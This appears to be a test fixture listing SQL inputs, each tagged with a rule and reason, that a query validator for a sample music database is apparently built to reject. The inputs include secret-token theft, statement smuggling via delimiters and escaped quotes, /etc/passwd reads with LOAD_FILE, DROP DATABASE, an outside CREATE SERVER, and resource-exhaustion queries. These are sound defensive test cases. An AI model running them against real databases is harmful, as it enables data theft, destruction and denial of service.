CREATE PROCEDURE loot() SELECT token FROM secrets

--- create_event: only-queries: event made
CREATE EVENT loot ON SCHEDULE EVERY 1 DAY DO DELETE FROM InvoiceLine

--- create_server: only-queries: other server
CREATE SERVER loot FOREIGN DATA WRAPPER mysql OPTIONS (HOST '192.0.2.1')

--- drop_database: only-queries: database dropped
DROP DATABASE Chinook

--- optimize: only-queries: optimize
OPTIMIZE TABLE Album

--- repair: only-queries: repair
REPAIR TABLE Album

--- check_table: only-queries: check
CHECK TABLE secrets

--- checksum: only-queries: checksum
CHECKSUM TABLE secrets

--- help: only-queries: help
HELP 'contents'

--- xa: only-queries: transaction over several servers
XA START 'x'

--- start_transaction: only-queries: writable transaction
START TRANSACTION READ WRITE

--- signal: only-queries: signal
SIGNAL SQLSTATE '45000'

--- get_diagnostics: only-queries: diagnostics
GET DIAGNOSTICS @n = NUMBER

--- delimiter: one-statement: delimiter of the client
DELIMITER // SELECT 1// DROP TABLE InvoiceLine//

--- backslash_g: one-statement: command of the client
SELECT 1\G DROP TABLE InvoiceLine

--- backslash_quote: relation: backslash before a quote, so that others take code for a text
SELECT '\'' AS a, (SELECT MAX(token) FROM secrets) AS b, '\'' AS c

--- backslash_end: one-statement: the same around a second statement
SELECT '\''; DELETE FROM InvoiceLine; SELECT '\''

--- double_quotes_union: relation: text in double quotes, then a real arm
SELECT "a' UNION SELECT 'b" AS x UNION SELECT token FROM secrets

--- introducer: type: character set in front of a text
SELECT _gbk'x' AS a, _utf8mb4 0x41 AS b

--- national_text: type: character set in front of a name that is not allowed
SELECT _binary (SELECT MAX(token) FROM secrets)

--- collate_unknown: collation: collation on no list
SELECT Title COLLATE loot_ci FROM Album

--- convert_unknown: collation: conversion to a set on no list
SELECT CONVERT(Title USING loot) FROM Album

--- cast_inet: type: type on no list
SELECT CAST('::1' AS INET6)

--- column_json_path: operator: path operator over a column
SELECT secrets.token->'$.x' FROM secrets

--- system_time: relation: history of a table
SELECT token FROM secrets FOR SYSTEM_TIME ALL

--- for_system_time_of: relation: history behind an allowed alias
SELECT Album.token FROM secrets FOR SYSTEM_TIME AS OF '2020-01-01' AS Album

--- default_function: function: default of a column
SELECT DEFAULT(token) FROM secrets

--- values_function: function: values function
SELECT VALUES(Title) FROM Album

--- limit_rows_examined: relation: limit of examined rows
SELECT token FROM secrets LIMIT 10 ROWS EXAMINED 1000

--- returning: only-queries: delete with returning
DELETE FROM InvoiceLine RETURNING InvoiceLineId

--- insert_returning: only-queries: insert with returning
INSERT INTO Genre VALUES (96, 'x') RETURNING *

--- zero_width_name !escaped: relation: name with a blank of no width
SELECT token FROM secre\u200bts

--- byte_order_mark !escaped: relation: byte order mark before the name
SELECT token FROM \ufeffsecrets

--- recursive_cycle: recursion: cycle clause does not bound
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r) CYCLE i RESTRICT SELECT COUNT(*) FROM r

--- recursive_concat: recursion: text doubled by concatenation
WITH RECURSIVE r AS (SELECT 1 AS i, CAST('x' AS CHAR(1000000)) AS s UNION ALL SELECT i + 1, CONCAT(s, s) FROM r WHERE i < 40) SELECT MAX(LENGTH(s)) FROM r

--- binary_padding: bounded-arguments: a hundred megabytes for every row by a type's length
SELECT CAST(Name AS BINARY(100000000)) FROM Track

--- char_type_giant: bounded-arguments: a giant length of a type
SELECT CONVERT(Name, BINARY(100000000)) FROM Track

--- braces_function: function: function in braces
SELECT {fn LOAD_FILE('/etc/passwd')}

--- braces_anything: relation: any word in braces before a subquery
SELECT {x (SELECT MAX(token) FROM secrets)}

--- name_blanks: catalog: blanks around the dot
SELECT * FROM mysql . user

--- name_blanks_secrets: schema: blanks around the dot of a database
SELECT token FROM Chinook . secrets

--- regexp_growth: bounded-arguments: replacements by a pattern that multiply
SELECT LENGTH(REGEXP_REPLACE(REGEXP_REPLACE(REGEXP_REPLACE(REGEXP_REPLACE(REGEXP_REPLACE('xxxxxxxxxx', '.', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'), '.', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'), '.', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'), '.', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'), '.', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'))

--- format_giant: bounded-arguments: expansion of a set of bits
SELECT EXPORT_SET(5, REPEAT('y', 900000), 'n', REPEAT(',', 900000), 64)

--- make_set: bounded-arguments: set of long texts
SELECT LENGTH(MAKE_SET(7, REPEAT('a', 300000000), REPEAT('b', 300000000), 'c'))

--- group_concat_limit: relation: limit inside a list
SELECT GROUP_CONCAT(token ORDER BY id LIMIT 1) FROM secrets

--- lag_default: function: second argument of lag
SELECT NTH_VALUE(Title, LENGTH(LOAD_FILE('/etc/passwd'))) OVER (ORDER BY AlbumId) FROM Album

--- alias_text: relation: alias in quotes over a forbidden column
SELECT token 'Title' FROM secrets

--- hex_name: relation: union with hexadecimal texts
SELECT 0x41 AS x UNION SELECT token FROM secrets
